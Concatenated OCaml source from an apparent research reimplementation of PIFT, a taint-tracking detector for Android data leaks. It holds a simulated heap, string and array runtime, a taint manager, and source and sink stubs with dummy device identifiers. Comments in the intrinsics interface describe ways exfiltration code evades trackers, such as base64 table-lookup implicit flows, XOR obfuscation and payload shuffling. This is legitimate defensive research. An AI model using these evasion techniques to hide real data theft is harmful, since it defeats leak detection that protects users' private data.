    Raises [Failure] on heap exhaustion. *)

val class_id : string -> int
(** Stable identifier for a class name. *)

val class_name_of_id : int -> string option
(** Reverse lookup (runtime type dispatch). *)

val new_object : t -> class_name:string -> field_count:int -> int
(** Allocate and tag an object with [field_count] word fields (zeroed). *)

val field_addr : obj:int -> index:int -> int
(** Address of word field [index] (0-based). *)

val read_class : t -> int -> int
(** Class id stored in an object header. *)

val allocated_bytes : t -> int
