(** PIFT Manager: the framework-level component of Fig. 3.

    Sources register the address ranges of freshly fetched sensitive data;
    sinks hand the ranges of outgoing data down for a taint check.  The
    manager fans these out to any number of attached trackers (the PIFT
    heuristic, the full-DIFT ground truth, hardware-backed variants, ...)
    and records every source registration and sink verdict for the
    evaluation harness. *)

type verdict = {
  sink : string;  (** sink kind, e.g. ["sms"], ["http"], ["log"] *)
  pid : int;
  seq : int;  (** order of the check *)
  tainted : (string * bool) list;  (** per-tracker answers *)
}

type t

val create : unit -> t

val add_tracker :
  t ->
  name:string ->
  taint:(pid:int -> Pift_util.Range.t -> unit) ->
  check:(pid:int -> Pift_util.Range.t -> bool) ->
  unit

val subscribe_sources :
  t -> (pid:int -> kind:string -> Pift_util.Range.t -> unit) -> unit
(** Observe raw source registrations (used by the trace recorder). *)

val subscribe_checks :
  t -> (pid:int -> kind:string -> Pift_util.Range.t list -> unit) -> unit
(** Observe raw sink checks with their full range lists. *)

val register_source : t -> pid:int -> kind:string -> Pift_util.Range.t -> unit
(** Called by sources; taints the range in every attached tracker. *)

val check_sink :
  t -> pid:int -> kind:string -> Pift_util.Range.t list -> unit
(** Called by sinks with the outgoing data's ranges; records one verdict
    (a tracker flags the sink if {e any} of the ranges is tainted). *)

val sources : t -> (string * int * Pift_util.Range.t) list
(** Registrations, oldest first. *)

val verdicts : t -> verdict list
(** Sink checks, oldest first. *)

val leaked : t -> tracker:string -> bool
(** Did any sink check come back tainted for [tracker]?  Raises
    [Not_found] if a verdict lacks that tracker. *)
