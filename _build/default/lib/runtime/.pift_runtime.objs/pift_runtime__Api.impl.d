lib/runtime/api.ml: Array Char Env Heap Intrinsics Jarray Jstring Manager Pift_arm Pift_machine String Tcb
