lib/runtime/heap.mli: Pift_machine
