lib/runtime/api.mli: Env
