lib/runtime/tcb.ml: Pift_machine Pift_util
