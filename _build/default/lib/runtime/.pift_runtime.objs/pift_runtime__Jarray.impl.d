lib/runtime/jarray.ml: Heap Pift_machine Pift_util
