lib/runtime/intrinsics.mli: Pift_arm Pift_machine
