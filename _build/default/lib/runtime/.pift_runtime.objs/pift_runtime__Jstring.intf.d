lib/runtime/jstring.mli: Heap Pift_util
