lib/runtime/env.mli: Heap Manager Pift_machine Pift_trace
