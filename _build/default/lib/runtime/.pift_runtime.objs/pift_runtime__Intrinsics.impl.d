lib/runtime/intrinsics.ml: Pift_arm Pift_machine
