lib/runtime/env.ml: Heap Intrinsics Manager Pift_arm Pift_machine Tcb
