lib/runtime/jstring.ml: Char Heap Jarray Pift_machine String
