lib/runtime/heap.ml: Hashtbl Pift_machine
