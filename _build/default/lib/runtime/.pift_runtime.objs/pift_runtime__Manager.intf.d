lib/runtime/manager.mli: Pift_util
