lib/runtime/manager.ml: List Pift_util
