lib/runtime/tcb.mli: Pift_util
