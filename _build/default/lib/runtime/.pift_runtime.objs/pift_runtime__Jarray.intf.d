lib/runtime/jarray.mli: Heap Pift_util
