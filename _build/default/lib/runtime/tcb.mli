(** Per-thread control block, the interpreter's [rSELF] structure.

    Dalvik keeps the pending method return value and the pending exception
    in thread-local memory; [move-result] and [move-exception] read them
    with real loads, which is how taint flows across call and throw edges.
    Register [r6] holds the TCB address while interpreting. *)

val size : int

val base : pid:int -> int
(** TCB address of a process (in the scratch region). *)

val retval_offset : int
(** Return value slot (4 bytes; wide results use 8). *)

val exception_offset : int
(** Pending-exception object reference. *)

val retval_range : pid:int -> Pift_util.Range.t
(** The 4-byte return-value slot as a range (used by primitive-typed
    sources to taint their result). *)
