module Memory = Pift_machine.Memory
module Range = Pift_util.Range

type elem = Bytes | Chars | Words

let elem_size = function Bytes -> 1 | Chars -> 2 | Words -> 4
let class_name = function Bytes -> "byte[]" | Chars -> "char[]" | Words -> "int[]"

let header_size = 8

let alloc heap elem n =
  if n < 0 then invalid_arg "Jarray.alloc: negative length";
  let arr = Heap.alloc heap (header_size + (elem_size elem * n)) in
  let mem = Heap.memory heap in
  Memory.write_u32 mem arr (Heap.class_id (class_name elem));
  Memory.write_u32 mem (arr + 4) n;
  arr

let length heap arr = Memory.read_u32 (Heap.memory heap) (arr + 4)
let data_addr arr = arr + header_size
let elem_addr elem ~arr ~index = data_addr arr + (elem_size elem * index)

let data_range elem heap arr =
  let n = length heap arr in
  if n = 0 then None
  else Some (Range.of_len (data_addr arr) (elem_size elem * n))

let set elem heap arr index v =
  let mem = Heap.memory heap in
  let a = elem_addr elem ~arr ~index in
  match elem with
  | Bytes -> Memory.write_u8 mem a v
  | Chars -> Memory.write_u16 mem a v
  | Words -> Memory.write_u32 mem a v

let get elem heap arr index =
  let mem = Heap.memory heap in
  let a = elem_addr elem ~arr ~index in
  match elem with
  | Bytes -> Memory.read_u8 mem a
  | Chars -> Memory.read_u16 mem a
  | Words -> Memory.read_u32 mem a
