module Memory = Pift_machine.Memory
module Insn = Pift_arm.Insn

let imei = "358240051111110"
let serial = "89014103211118510720"
let phone_number = "15555215554"
let latitude_ud = 37_421_998
let longitude_ud = 122_084_000

let mem (env : Env.t) = Pift_machine.Cpu.memory env.cpu
let string_data env s = Jarray.data_addr (Jstring.char_array env.Env.heap s)

let string_range env s =
  match Jstring.data_range env.Env.heap s with
  | Some r -> [ r ]
  | None -> []

(* --- Sources --------------------------------------------------------- *)

let string_source ~kind value : Env.native =
 fun env ~args:_ ~arg_addrs:_ ->
  let s = Jstring.alloc env.heap value in
  (match Jstring.data_range env.heap s with
  | Some r -> Manager.register_source env.manager ~pid:(Env.pid env) ~kind r
  | None -> ());
  Env.set_retval_ref env s

let get_device_id = string_source ~kind:"IMEI" imei
let get_sim_serial = string_source ~kind:"SerialNumber" serial
let get_line1_number = string_source ~kind:"PhoneNumber" phone_number

(* Primitive-typed source: the kernel deposits the value in the return
   slot and the slot itself is registered as tainted; the following
   [move-result] load then opens a tainting window. *)
let primitive_source ~kind value : Env.native =
 fun env ~args:_ ~arg_addrs:_ ->
  Memory.write_u32 (mem env) (Env.retval_addr env) value;
  Manager.register_source env.manager ~pid:(Env.pid env) ~kind
    (Tcb.retval_range ~pid:(Env.pid env))

let get_latitude = primitive_source ~kind:"Location" latitude_ud
let get_longitude = primitive_source ~kind:"Location" longitude_ud

(* --- Sinks ----------------------------------------------------------- *)

let send_text_message : Env.native =
 fun env ~args ~arg_addrs:_ ->
  Manager.check_sink env.manager ~pid:(Env.pid env) ~kind:"sms"
    (string_range env args.(1))

let http_post : Env.native =
 fun env ~args ~arg_addrs:_ ->
  Manager.check_sink env.manager ~pid:(Env.pid env) ~kind:"http"
    (string_range env args.(0) @ string_range env args.(1))

let log_i : Env.native =
 fun env ~args ~arg_addrs:_ ->
  Manager.check_sink env.manager ~pid:(Env.pid env) ~kind:"log"
    (string_range env args.(1))

let write_bytes_sink : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let ranges =
    match Jarray.data_range Jarray.Bytes env.heap args.(0) with
    | Some r -> [ r ]
    | None -> []
  in
  Manager.check_sink env.manager ~pid:(Env.pid env) ~kind:"http" ranges

(* --- Strings --------------------------------------------------------- *)

let string_concat : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let a = args.(0) and b = args.(1) in
  let la = Jstring.length env.heap a and lb = Jstring.length env.heap b in
  let dst = Jstring.alloc_empty env.heap ~capacity:(la + lb) in
  let data = string_data env dst in
  Intrinsics.char_copy env.cpu ~dst:data ~src:(string_data env a) ~chars:la;
  Intrinsics.char_copy env.cpu ~dst:(data + (2 * la))
    ~src:(string_data env b) ~chars:lb;
  Env.set_retval_ref env dst

let itoa_buf env = Tcb.base ~pid:(Env.pid env) + 16

let string_value_of_int : Env.native =
 fun env ~args:_ ~arg_addrs ->
  let buf = itoa_buf env in
  let n = Intrinsics.itoa env.cpu ~value_addr:arg_addrs.(0) ~buf in
  let s = Jstring.alloc_empty env.heap ~capacity:n in
  Intrinsics.reverse_bytes_to_chars env.cpu ~dst:(string_data env s) ~src:buf
    ~count:n;
  Env.set_retval_ref env s

let string_char_at : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) and i = args.(1) in
  let arr = Jstring.char_array env.heap s in
  let src = Jarray.elem_addr Jarray.Chars ~arr ~index:i in
  (* Two pad instructions model the interpreter's bounds check. *)
  Intrinsics.scalar_move env.cpu ~dst:(Env.retval_addr env) ~src
    ~src_width:Insn.Half ~dst_width:Insn.Word ~pad:2

let string_substring : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) and start = args.(1) and len = args.(2) in
  let dst = Jstring.alloc_empty env.heap ~capacity:len in
  Intrinsics.char_copy env.cpu ~dst:(string_data env dst)
    ~src:(string_data env s + (2 * start))
    ~chars:len;
  Env.set_retval_ref env dst

let string_to_upper : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) in
  let n = Jstring.length env.heap s in
  let dst = Jstring.alloc_empty env.heap ~capacity:n in
  Intrinsics.char_copy_transform env.cpu ~dst:(string_data env dst)
    ~src:(string_data env s) ~chars:n ~xor:0x20;
  Env.set_retval_ref env dst

let string_get_bytes : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) in
  let n = Jstring.length env.heap s in
  let arr = Jarray.alloc env.heap Jarray.Bytes n in
  Intrinsics.char_to_byte_copy env.cpu ~dst:(Jarray.data_addr arr)
    ~src:(string_data env s) ~chars:n;
  Env.set_retval_ref env arr

let string_from_bytes : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let arr = args.(0) in
  let n = Jarray.length env.heap arr in
  let s = Jstring.alloc_empty env.heap ~capacity:n in
  Intrinsics.byte_to_char_copy env.cpu ~dst:(string_data env s)
    ~src:(Jarray.data_addr arr) ~bytes:n;
  Env.set_retval_ref env s

let string_get_chars : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let s = args.(0) and arr = args.(1) in
  let n = min (Jstring.length env.heap s) (Jarray.length env.heap arr) in
  Intrinsics.char_copy env.cpu ~dst:(Jarray.data_addr arr)
    ~src:(string_data env s) ~chars:n

let string_from_chars : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let arr = args.(0) in
  let n = Jarray.length env.heap arr in
  let s = Jstring.alloc_empty env.heap ~capacity:n in
  Intrinsics.char_copy env.cpu ~dst:(string_data env s)
    ~src:(Jarray.data_addr arr) ~chars:n;
  Env.set_retval_ref env s

let string_length : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let arr = Jstring.char_array env.heap args.(0) in
  Intrinsics.scalar_move env.cpu ~dst:(Env.retval_addr env) ~src:(arr + 4)
    ~src_width:Insn.Word ~dst_width:Insn.Word ~pad:0

let base64_alphabet =
  "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

(* android.util.Base64-style encoder over a byte array; trailing bytes
   beyond the last full 3-byte group are dropped (no padding), which is
   enough for the exfiltration paths that use it. *)
let base64_encode : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let arr = args.(0) in
  let n = Jarray.length env.heap arr in
  let groups = n / 3 in
  let table = Heap.alloc env.heap 64 in
  String.iteri
    (fun i c -> Memory.write_u8 (mem env) (table + i) (Char.code c))
    base64_alphabet;
  let out = Jstring.alloc_empty env.heap ~capacity:(4 * groups) in
  Intrinsics.base64_encode env.cpu ~dst:(string_data env out)
    ~src:(Jarray.data_addr arr) ~groups ~table;
  Env.set_retval_ref env out

(* --- StringBuilder ---------------------------------------------------- *)

let sb_class = "java/lang/StringBuilder"
let sb_initial_capacity = 32

let sb_array env sb =
  Memory.read_u32 (mem env) (Heap.field_addr ~obj:sb ~index:0)

let sb_length env sb =
  Memory.read_u32 (mem env) (Heap.field_addr ~obj:sb ~index:1)

let sb_capacity env sb = Jarray.length env.Env.heap (sb_array env sb)

let sb_new : Env.native =
 fun env ~args:_ ~arg_addrs:_ ->
  let sb = Heap.new_object env.heap ~class_name:sb_class ~field_count:2 in
  let arr = Jarray.alloc env.heap Jarray.Chars sb_initial_capacity in
  Memory.write_u32 (mem env) (Heap.field_addr ~obj:sb ~index:0) arr;
  Memory.write_u32 (mem env) (Heap.field_addr ~obj:sb ~index:1) 0;
  Env.set_retval_ref env sb

(* Grow the value array so [extra] more chars fit; the old contents move
   through an executed word-copy (their taint moves with them only if the
   tracker catches the copy — exactly as on real hardware). *)
let sb_ensure env sb extra =
  let len = sb_length env sb in
  let cap = sb_capacity env sb in
  if len + extra > cap then begin
    let new_cap = max (len + extra) (2 * cap) in
    let old_arr = sb_array env sb in
    let arr = Jarray.alloc env.Env.heap Jarray.Chars new_cap in
    Intrinsics.word_copy env.Env.cpu ~dst:(Jarray.data_addr arr)
      ~src:(Jarray.data_addr old_arr)
      ~words:(((2 * len) + 3) / 4);
    Memory.write_u32 (mem env) (Heap.field_addr ~obj:sb ~index:0) arr
  end

let sb_append : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let sb = args.(0) and s = args.(1) in
  let n = Jstring.length env.heap s in
  sb_ensure env sb n;
  let len = sb_length env sb in
  let dst = Jarray.data_addr (sb_array env sb) + (2 * len) in
  (* The per-iteration length store is real StringBuilder bookkeeping and
     is why string-building flows need NT >= 2. *)
  Intrinsics.char_copy_with_counter env.cpu ~dst ~src:(string_data env s)
    ~chars:n
    ~counter_addr:(Heap.field_addr ~obj:sb ~index:1);
  Memory.write_u32 (mem env) (Heap.field_addr ~obj:sb ~index:1) (len + n);
  Env.set_retval_ref env sb

let sb_append_char : Env.native =
 fun env ~args ~arg_addrs ->
  let sb = args.(0) in
  sb_ensure env sb 1;
  let len = sb_length env sb in
  let dst = Jarray.data_addr (sb_array env sb) + (2 * len) in
  Intrinsics.scalar_move env.cpu ~dst ~src:arg_addrs.(1)
    ~src_width:Insn.Word ~dst_width:Insn.Half ~pad:1;
  Intrinsics.increment_word env.cpu
    ~addr:(Heap.field_addr ~obj:sb ~index:1);
  Env.set_retval_ref env sb

let sb_append_int : Env.native =
 fun env ~args ~arg_addrs ->
  let sb = args.(0) in
  let buf = itoa_buf env in
  let n = Intrinsics.itoa env.cpu ~value_addr:arg_addrs.(1) ~buf in
  sb_ensure env sb n;
  let len = sb_length env sb in
  let dst = Jarray.data_addr (sb_array env sb) + (2 * len) in
  Intrinsics.reverse_bytes_to_chars env.cpu ~dst ~src:buf ~count:n;
  Memory.write_u32 (mem env) (Heap.field_addr ~obj:sb ~index:1) (len + n);
  Env.set_retval_ref env sb

let sb_to_string : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let sb = args.(0) in
  let len = sb_length env sb in
  let s = Jstring.alloc_empty env.heap ~capacity:len in
  Intrinsics.char_copy env.cpu ~dst:(string_data env s)
    ~src:(Jarray.data_addr (sb_array env sb))
    ~chars:len;
  Env.set_retval_ref env s

(* --- Arrays ----------------------------------------------------------- *)

let array_copy : Env.native =
 fun env ~args ~arg_addrs:_ ->
  let src = args.(0)
  and src_pos = args.(1)
  and dst = args.(2)
  and dst_pos = args.(3)
  and len = args.(4) in
  let cls = Heap.read_class env.heap src in
  let kind =
    if cls = Heap.class_id (Jarray.class_name Jarray.Chars) then Jarray.Chars
    else if cls = Heap.class_id (Jarray.class_name Jarray.Bytes) then
      Jarray.Bytes
    else Jarray.Words
  in
  let addr arr pos = Jarray.elem_addr kind ~arr ~index:pos in
  match kind with
  | Jarray.Chars ->
      Intrinsics.char_copy env.cpu ~dst:(addr dst dst_pos)
        ~src:(addr src src_pos) ~chars:len
  | Jarray.Bytes ->
      Intrinsics.byte_copy env.cpu ~dst:(addr dst dst_pos)
        ~src:(addr src src_pos) ~bytes:len
  | Jarray.Words ->
      Intrinsics.word_copy env.cpu ~dst:(addr dst dst_pos)
        ~src:(addr src src_pos) ~words:len

let registry =
  [
    ("TelephonyManager.getDeviceId", get_device_id);
    ("TelephonyManager.getSimSerialNumber", get_sim_serial);
    ("TelephonyManager.getLine1Number", get_line1_number);
    ("LocationManager.getLatitude", get_latitude);
    ("LocationManager.getLongitude", get_longitude);
    ("SmsManager.sendTextMessage", send_text_message);
    ("HttpURLConnection.post", http_post);
    ("Log.i", log_i);
    ("OutputStream.write", write_bytes_sink);
    ("String.concat", string_concat);
    ("String.valueOf", string_value_of_int);
    ("String.charAt", string_char_at);
    ("String.substring", string_substring);
    ("String.toUpperCase", string_to_upper);
    ("String.getBytes", string_get_bytes);
    ("String.fromBytes", string_from_bytes);
    ("String.getChars", string_get_chars);
    ("String.fromChars", string_from_chars);
    ("Base64.encode", base64_encode);
    ("String.length", string_length);
    ("StringBuilder.new", sb_new);
    ("StringBuilder.append", sb_append);
    ("StringBuilder.appendChar", sb_append_char);
    ("StringBuilder.appendInt", sb_append_int);
    ("StringBuilder.toString", sb_to_string);
    ("System.arraycopy", array_copy);
  ]
