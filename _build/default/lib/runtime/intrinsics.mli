(** Native code fragments for the runtime's data movement.

    These are the hand-written ARM routines the Android framework would
    run: the char-copy loop behind string concatenation (paper Fig. 1),
    narrowing/widening copies behind [String.getBytes] and [new
    String(byte\[\])], the integer-to-decimal conversion behind
    [String.valueOf] (the paper's "ARM runtime ABI" long-distance case),
    and word-granular [memcpy].  Every routine executes on the CPU and
    emits real instruction events; the load→store distances noted per
    function are load-bearing for the evaluation. *)

type cpu = Pift_machine.Cpu.t

val char_copy : cpu -> dst:int -> src:int -> chars:int -> unit
(** Fig. 1 loop: [ldrh r6,\[r1,r4\]; add; strh r6,\[r0,r4\]; ...].
    Load→store distance 2.  [dst]/[src] are char-data addresses. *)

val char_copy_with_counter :
  cpu -> dst:int -> src:int -> chars:int -> counter_addr:int -> unit
(** Copy that also stores an updated element count every iteration
    (StringBuilder-style bookkeeping).  The counter store lands between
    the char load (distance 2) and the char store (distance 3), so
    propagation needs NT >= 2. *)

val char_copy_logged :
  ?header:int ->
  cpu ->
  dst:int ->
  src:int ->
  chars:int ->
  counter_addr:int ->
  unit
(** [header] is the address of the source array's length word (defaults
    to [src - 4]; pass it explicitly when [src] is not the array's data
    base — the bounds-check load must never overlap data).
    Copy with a per-iteration bounds-check load and a progress-counter
    store after each char store.  In a window opened by a tainted char
    load, the stores line up as: own char store (distance 3, NT 1),
    counter store (distance 4, NT 2), {e next iteration's} char store
    (distance 14, NT 3).  This loop shape is behind the paper's
    taint-explosion regime: spreading to the following element needs
    NI >= 14 {e and} NT >= 3 — explosive at (15,3)/(20,3), flat
    elsewhere (Fig. 15). *)

val char_deinterleave :
  cpu -> dst:int -> src:int -> chars:int -> counter_addr:int -> unit
(** Two {!char_copy_logged}-shaped passes that split even and odd code
    units into the two halves of [dst] (rootkit-style payload
    shuffling).  Each pass splits every tainted run in two, so under the
    spreading regime the number of tainted ranges — and with the +1
    per-run spread, the tainted byte count — grows geometrically.
    Requires an even [chars]. *)

val char_copy_transform : cpu -> dst:int -> src:int -> chars:int -> xor:int -> unit
(** Copy XOR-ing each code unit with [xor] (cheap obfuscation).
    Load→store distance 2. *)

val char_to_byte_copy : cpu -> dst:int -> src:int -> chars:int -> unit
(** Narrowing copy ([String.getBytes]): [ldrh]/[strb], distance 2. *)

val byte_to_char_copy : cpu -> dst:int -> src:int -> bytes:int -> unit
(** Widening copy ([new String(byte\[\])]): [ldrb]/[strh], distance 2. *)

val word_copy : cpu -> dst:int -> src:int -> words:int -> unit
(** [System.arraycopy]/[memcpy] inner loop: [ldr]/[str], distance 2. *)

val itoa : cpu -> value_addr:int -> buf:int -> int
(** Decimal conversion of the 32-bit value *loaded from* [value_addr];
    digits are stored least-significant-first at [buf].  Returns the digit
    count.  The distance from the (possibly tainted) value load to the
    first digit store is exactly {!itoa_first_store_distance} — the GPS
    detection threshold of Fig. 11. *)

val itoa_first_store_distance : int
(** 10, by construction of {!itoa}. *)

val reverse_bytes_to_chars : cpu -> dst:int -> src:int -> count:int -> unit
(** Copy [count] bytes from [src + count - 1] downward into 2-byte chars
    at [dst] (finishing an [itoa]).  [ldrb]/[strh], distance 2. *)

val byte_copy : cpu -> dst:int -> src:int -> bytes:int -> unit
(** [ldrb]/[strb] copy loop, distance 2. *)

val base64_encode :
  cpu -> dst:int -> src:int -> groups:int -> table:int -> unit
(** Base64-encode [3 * groups] bytes at [src] into [4 * groups] 2-byte
    chars at [dst], using the 64-entry alphabet at [table].

    Each output character is fetched from the alphabet by a *computed
    index* — so under exact data-flow tracking the output is clean (the
    loaded alphabet bytes are constants; only the index derives from the
    input): table-lookup encoding is an implicit flow, the classic
    trick real exfiltration code uses against TaintDroid-style trackers.
    PIFT still catches it by temporal locality: the four output stores
    land 5/11/17/22 instructions after the group's last input-byte load,
    so the first two fall inside the default (13,3) window. *)

val fill_chars : cpu -> dst:int -> chars:int -> value:int -> unit
(** Store-only fill loop ([memset]).  Its stores carry constant data, so
    under Algorithm 1 they untaint whatever they overwrite (when
    untainting is enabled). *)

val scalar_move :
  cpu ->
  dst:int ->
  src:int ->
  src_width:Pift_arm.Insn.width ->
  dst_width:Pift_arm.Insn.width ->
  pad:int ->
  unit
(** One element moved from [src] to [dst] with [pad] register-only
    instructions between load and store (distance [pad + 1]). *)

val increment_word : cpu -> addr:int -> unit
(** [ldr; add #1; str] read-modify-write (distance 2). *)

val load_store_word : cpu -> dst:int -> src:int -> pad:int -> unit
(** One word moved from [src] to [dst] with [pad] register-only
    instructions in between: load→store distance [pad + 1].  Used by
    workloads that need a precise distance (the §4.2 evasion case and the
    hard implicit flow). *)

val store_word : cpu -> addr:int -> value:int -> unit
(** [mov r6,#value; str r6,\[r0\]] — a store of a constant (clean under
    full DIFT). *)
