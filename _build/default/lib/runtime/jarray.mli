(** Java-style arrays on the simulated heap.

    Layout: [class_id] at offset 0, element count at offset 4, elements
    from offset 8.  Element width is 1 (byte\[\]), 2 (char\[\]) or 4
    (int\[\] / object\[\]) bytes.

    The [get_*]/[set_*] accessors here read and write memory *directly*
    (no instruction events) and are for test setup and inspection only;
    program-visible element traffic must go through bytecode ([aget]/
    [aput]) or native fragments. *)

type elem = Bytes | Chars | Words

val elem_size : elem -> int
val class_name : elem -> string

val alloc : Heap.t -> elem -> int -> int
(** [alloc heap elem n] allocates an [n]-element array, zeroed. *)

val length : Heap.t -> int -> int
val data_addr : int -> int
val elem_addr : elem -> arr:int -> index:int -> int

val data_range : elem -> Heap.t -> int -> Pift_util.Range.t option
(** Byte range of the element data; [None] for an empty array. *)

val set : elem -> Heap.t -> int -> int -> int -> unit
(** [set elem heap arr index v] — direct write, no events. *)

val get : elem -> Heap.t -> int -> int -> int
