module Memory = Pift_machine.Memory

let string_class = "java/lang/String"

let alloc_empty heap ~capacity =
  let arr = Jarray.alloc heap Jarray.Chars capacity in
  let obj = Heap.new_object heap ~class_name:string_class ~field_count:1 in
  Memory.write_u32 (Heap.memory heap)
    (Heap.field_addr ~obj ~index:0)
    arr;
  obj

let alloc heap s =
  let obj = alloc_empty heap ~capacity:(String.length s) in
  let arr =
    Memory.read_u32 (Heap.memory heap) (Heap.field_addr ~obj ~index:0)
  in
  String.iteri
    (fun i c -> Jarray.set Jarray.Chars heap arr i (Char.code c))
    s;
  obj

let char_array heap obj =
  Memory.read_u32 (Heap.memory heap) (Heap.field_addr ~obj ~index:0)

let length heap obj = Jarray.length heap (char_array heap obj)

let data_range heap obj =
  Jarray.data_range Jarray.Chars heap (char_array heap obj)

let to_string heap obj =
  let arr = char_array heap obj in
  String.init (Jarray.length heap arr) (fun i ->
      Char.chr (Jarray.get Jarray.Chars heap arr i land 0xFF))

let set_length heap obj n =
  let arr = char_array heap obj in
  Memory.write_u32 (Heap.memory heap) (arr + 4) n
