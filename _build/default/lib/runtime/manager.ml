module Range = Pift_util.Range

type verdict = {
  sink : string;
  pid : int;
  seq : int;
  tainted : (string * bool) list;
}

type tracker = {
  name : string;
  taint : pid:int -> Range.t -> unit;
  check : pid:int -> Range.t -> bool;
}

type t = {
  mutable trackers : tracker list;  (* reverse attachment order *)
  mutable sources : (string * int * Range.t) list;  (* newest first *)
  mutable verdicts : verdict list;  (* newest first *)
  mutable next_seq : int;
  mutable source_subs : (pid:int -> kind:string -> Range.t -> unit) list;
  mutable check_subs : (pid:int -> kind:string -> Range.t list -> unit) list;
}

let create () =
  {
    trackers = [];
    sources = [];
    verdicts = [];
    next_seq = 0;
    source_subs = [];
    check_subs = [];
  }

let subscribe_sources t f = t.source_subs <- f :: t.source_subs
let subscribe_checks t f = t.check_subs <- f :: t.check_subs

let add_tracker t ~name ~taint ~check =
  t.trackers <- { name; taint; check } :: t.trackers

let register_source t ~pid ~kind range =
  t.sources <- (kind, pid, range) :: t.sources;
  List.iter (fun f -> f ~pid ~kind range) t.source_subs;
  List.iter (fun tr -> tr.taint ~pid range) t.trackers

let check_sink t ~pid ~kind ranges =
  List.iter (fun f -> f ~pid ~kind ranges) t.check_subs;
  let tainted =
    List.rev_map
      (fun tr -> (tr.name, List.exists (fun r -> tr.check ~pid r) ranges))
      t.trackers
  in
  let seq = t.next_seq in
  t.next_seq <- seq + 1;
  t.verdicts <- { sink = kind; pid; seq; tainted } :: t.verdicts

let sources t = List.rev t.sources
let verdicts t = List.rev t.verdicts

let leaked t ~tracker =
  List.exists (fun v -> List.assoc tracker v.tainted) t.verdicts
