(** Java-style strings: an object holding a reference to a char\[\] whose
    elements are 2-byte code units (the paper notes each character
    consumes two bytes, §2 footnote 1).

    Allocation writes characters directly (literal strings and
    freshly-materialised source values are produced by the runtime, not by
    tracked code); all subsequent movement of string *data* happens
    through executed copy loops. *)

val alloc : Heap.t -> string -> int
(** Materialise an OCaml string (one code unit per byte) as a Java
    string; returns the string object reference. *)

val alloc_empty : Heap.t -> capacity:int -> int
(** String backed by a zeroed char array of [capacity] chars (used as a
    copy destination). *)

val char_array : Heap.t -> int -> int
(** The char\[\] reference of a string object. *)

val length : Heap.t -> int -> int

val data_range : Heap.t -> int -> Pift_util.Range.t option
(** Byte range of the character data — the range PIFT Native hands to the
    kernel module at sources and sinks (Fig. 3). *)

val to_string : Heap.t -> int -> string
(** Read the contents back (low bytes of each code unit). *)

val set_length : Heap.t -> int -> int -> unit
(** Shrink/grow the logical length (must fit the allocation). *)
