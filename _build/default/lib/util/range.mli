(** Inclusive address ranges [\[lo, hi\]] over a flat byte-addressed space.

    Ranges are the currency of the whole system: memory accesses resolve to
    ranges, the PIFT taint state is a set of ranges, and the hardware taint
    storage caches ranges.  Addresses are plain OCaml [int]s interpreted as
    unsigned 32-bit values. *)

type t = private { lo : int; hi : int }

val make : int -> int -> t
(** [make lo hi] is the range [\[lo, hi\]].  Raises [Invalid_argument] when
    [hi < lo] or [lo < 0]. *)

val of_len : int -> int -> t
(** [of_len addr len] is the [len]-byte range starting at [addr].
    Raises [Invalid_argument] when [len <= 0]. *)

val byte : int -> t
(** [byte a] is the single-byte range [\[a, a\]]. *)

val length : t -> int
(** Number of bytes covered (at least 1). *)

val lo : t -> int
val hi : t -> int

val overlaps : t -> t -> bool
(** The paper's hit condition: [max(si, sL) <= min(ei, eL)]. *)

val adjacent : t -> t -> bool
(** [adjacent a b] holds when the ranges touch without overlapping, e.g.
    [\[0,3\]] and [\[4,7\]]. *)

val contains : t -> int -> bool

val covers : t -> t -> bool
(** [covers a b] holds when [b] lies entirely inside [a]. *)

val union : t -> t -> t
(** Union of two overlapping-or-adjacent ranges.  Raises
    [Invalid_argument] when they are disjoint and non-adjacent. *)

val inter : t -> t -> t option
(** Overlapping part, if any. *)

val subtract : t -> t -> t list
(** [subtract a b] is what remains of [a] after removing [b]: zero, one or
    two ranges, in increasing address order. *)

val equal : t -> t -> bool
val compare : t -> t -> int
val pp : Format.formatter -> t -> unit
val to_string : t -> string
