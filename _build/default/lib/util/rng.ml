type t = { mutable state : int64 }

let create seed =
  let s = Int64.of_int seed in
  { state = (if Int64.equal s 0L then 0x9E3779B97F4A7C15L else s) }

(* xorshift64*: Marsaglia 2003 / Vigna 2016. *)
let next t =
  let x = t.state in
  let x = Int64.logxor x (Int64.shift_right_logical x 12) in
  let x = Int64.logxor x (Int64.shift_left x 25) in
  let x = Int64.logxor x (Int64.shift_right_logical x 27) in
  t.state <- x;
  Int64.mul x 0x2545F4914F6CDD1DL

let bits62 t = Int64.to_int (Int64.shift_right_logical (next t) 2)

let int t bound =
  if bound <= 0 then invalid_arg "Rng.int: non-positive bound";
  bits62 t mod bound

let int_in t lo hi =
  if hi < lo then invalid_arg "Rng.int_in: hi < lo";
  lo + int t (hi - lo + 1)

let bool t = Int64.logand (next t) 1L = 1L

let float t bound =
  float_of_int (bits62 t) /. float_of_int (1 lsl 62) *. bound

let pick t a =
  if Array.length a = 0 then invalid_arg "Rng.pick: empty array";
  a.(int t (Array.length a))

let shuffle t a =
  for i = Array.length a - 1 downto 1 do
    let j = int t (i + 1) in
    let tmp = a.(i) in
    a.(i) <- a.(j);
    a.(j) <- tmp
  done

let split t = { state = next t }
