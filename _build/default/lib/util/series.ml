type t = {
  name : string;
  mutable times : int array;
  mutable values : int array;
  mutable len : int;
}

let create ?(name = "") () =
  { name; times = Array.make 16 0; values = Array.make 16 0; len = 0 }

let name s = s.name

let ensure_capacity s =
  if s.len = Array.length s.times then begin
    let cap = 2 * s.len in
    let grow a = Array.append a (Array.make (cap - s.len) 0) in
    s.times <- grow s.times;
    s.values <- grow s.values
  end

let record s ~time ~value =
  if s.len > 0 && time < s.times.(s.len - 1) then
    invalid_arg "Series.record: time going backwards";
  ensure_capacity s;
  s.times.(s.len) <- time;
